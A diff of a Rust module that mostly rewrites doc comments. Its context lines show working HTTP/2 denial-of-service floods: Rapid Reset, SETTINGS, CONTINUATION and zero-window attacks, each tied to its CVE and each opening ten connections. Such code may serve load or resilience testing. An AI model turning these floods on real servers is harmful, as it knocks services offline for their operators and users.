@@ -1,4 +1,4 @@
-//! Floods of HTTP/2 frames.
+//! Attacks with floods of HTTP/2 frames.
 
 use crate::flood::Door;
 use crate::frames::{
@@ -15,14 +15,14 @@ fn request(door: &Door) -> Vec<u8> {
     block(&fields)
 }
 
-/// A connection that has said hello, with these settings.
+/// Opens a connection and sends the preface with these settings.
 fn open(door: &Door, settings: &[u8]) -> TcpStream {
     let mut stream = door.connect();
     Door::push(&mut stream, &hello(settings));
     stream
 }
 
-/// CVE-2023-44487.
+/// CVE-2023-44487: each request is reset immediately.
 pub(crate) fn rapid_reset(door: &Door) -> Vec<TcpStream> {
     let head = request(door);
     let begin = |_| {
@@ -41,7 +41,7 @@ pub(crate) fn rapid_reset(door: &Door) -> Vec<TcpStream> {
     (0..10).map(begin).collect()
 }
 
-/// CVE-2019-9515 and CVE-2019-9512: each asks for an answer that is never read.
+/// CVE-2019-9515 and CVE-2019-9512: each frame requires an answer, which the client never reads.
 pub(crate) fn settings_flood(door: &Door) -> Vec<TcpStream> {
     let mut bytes = Vec::new();
     for _ in 0..2_500 {
@@ -56,7 +56,7 @@ pub(crate) fn settings_flood(door: &Door) -> Vec<TcpStream> {
     (0..10).map(begin).collect()
 }
 
-/// CVE-2024-27316: the head never ends.
+/// CVE-2024-27316: the request head never ends.
 pub(crate) fn continuation_flood(door: &Door) -> Vec<TcpStream> {
     let more = frame(CONTINUATION, 0, 1, &block(&[("x-more", &"a".repeat(16_000))]));
     let begin = |_| {
@@ -68,7 +68,7 @@ pub(crate) fn continuation_flood(door: &Door) -> Vec<TcpStream> {
     (0..10).map(begin).collect()
 }
 
-/// CVE-2019-9517: answers are asked for and may not be sent.
+/// CVE-2019-9517: responses are requested, but flow control never allows the server to send them.
 pub(crate) fn no_window(door: &Door) -> Vec<TcpStream> {
     let row = format!("[{}]", ["1"; 64].join(","));
     let body = format!("{{\"data\":[{}]}}", vec![row; 80].join(","));
@@ -81,7 +81,7 @@ pub(crate) fn no_window(door: &Door) -> Vec<TcpStream> {
             bytes.extend(frame(DATA, END_STREAM, id, body.as_bytes()));
             Door::push(&mut stream, &bytes);
         }
-        // What the server says of it is not waited for.
+        // Does not wait for more than the start of the server's answer.
         let mut some = [0; 9];
         let _ = stream.read(&mut some);
         stream
